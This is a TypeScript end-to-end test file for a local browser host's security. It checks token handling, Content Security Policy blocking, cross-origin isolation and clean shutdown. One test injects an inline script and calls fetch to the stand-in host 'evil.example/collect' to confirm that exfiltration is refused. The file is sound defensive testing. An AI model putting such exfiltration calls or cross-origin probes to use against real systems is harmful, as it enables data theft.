import { launchChromium } from './harness/chromium.ts'
import { startHeadless } from './harness/application.ts'
import { callFromPage } from './harness/line.ts'
import { expect, test } from './harness/test.ts'
import { mkdtempSync, rmSync } from 'node:fs'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'

// What protects the browser host, in a real browser; the rest is in electron/browser-host/server.test.ts.

test('the page is let in by its start address, and goes on after a reload without it', async ({ open }) => {
  const application = await open()
  const page = application.page()
  await expect.poll(() => page.evaluate(() => location.hash)).not.toContain('token')
  await expect.poll(() => callFromPage(page, 'setup/state', {})).toMatchObject({ i: 'e2e-1' })
  expect(await page.evaluate(() => document.cookie)).toBe('')
  await page.reload()
  expect(await callFromPage(page, 'setup/state', {})).toMatchObject({ i: 'e2e-1' })
})

test('an inline script does not run, and nothing is sent elsewhere', async ({ open }) => {
  const page = (await open({ tolerates: [/Content Security Policy/] })).page()
  const ran = await page.evaluate(async () => {
    const refused: string[] = []
    document.addEventListener('securitypolicyviolation', (event) => refused.push(event.effectiveDirective))
    const inline = document.createElement('script')
    inline.textContent = 'globalThis.inlineRan = true'
    document.body.append(inline)
    await fetch('https://evil.example/collect').catch(() => undefined)
    await new Promise((resolve) => setTimeout(resolve, 200))
    return { inline: 'inlineRan' in globalThis, refused: [...new Set(refused)].sort() }
  })
  expect(ran).toEqual({ inline: false, refused: ['connect-src', 'script-src-elem'] })
})

test('another browser, and another site in the same browser, get nothing', async () => {
  const directory = mkdtempSync(join(tmpdir(), 'digit-hab-e2e-'))
  const host = await startHeadless(directory)
  const foreignSite = createServer((_request, response) => response.setHeader('Content-Type', 'text/html').end('<!doctype html>foreign'))
  await new Promise<void>((resolve) => foreignSite.listen(0, '127.0.0.1', resolve))
  const browser = await launchChromium()
  try {
    const known = await browser.newContext()
    const page = await known.newPage()
    await page.goto(host.url)
    await expect.poll(() => callFromPage(page, 'setup/state', {})).toMatchObject({ i: 'e2e-1' })

    const stranger = await (await browser.newContext()).newPage()
    await stranger.goto(host.url)
    await stranger.waitForTimeout(500)
    expect(await callFromPage(stranger, 'setup/state', {})).toBeNull()

    const foreign = await known.newPage()
    await foreign.goto(`http://127.0.0.1:${(foreignSite.address() as AddressInfo).port}/`)
    const reached = await foreign.evaluate(async (address) => {
      const socket = new WebSocket(`${address.replace('http', 'ws')}core`)
      const opened = await new Promise((resolve) => {
        socket.addEventListener('open', () => resolve(true))
        socket.addEventListener('close', () => resolve(false))
      })
      const read = await fetch(`${address}session`, { credentials: 'include' }).then((answer) => answer.status, () => 'refused')
      return { opened, read }
    }, host.url.split('#')[0]!)
    expect(reached).toEqual({ opened: false, read: 'refused' })
  } finally {
    await browser.close()
    foreignSite.close()
    await host.stop()
    rmSync(directory, { recursive: true, force: true })
  }
})

for (const signal of ['SIGTERM', 'SIGINT'] as const) {
  test(`stops cleanly on ${signal}`, async () => {
    const directory = mkdtempSync(join(tmpdir(), 'digit-hab-e2e-'))
    const host = await startHeadless(directory)
    const ended = new Promise((resolve) => host.process.once('exit', (code, by) => resolve({ code, by })))
    host.process.kill(signal)
    expect(await ended).toEqual({ code: 0, by: null })
    rmSync(directory, { recursive: true, force: true })
  })
}
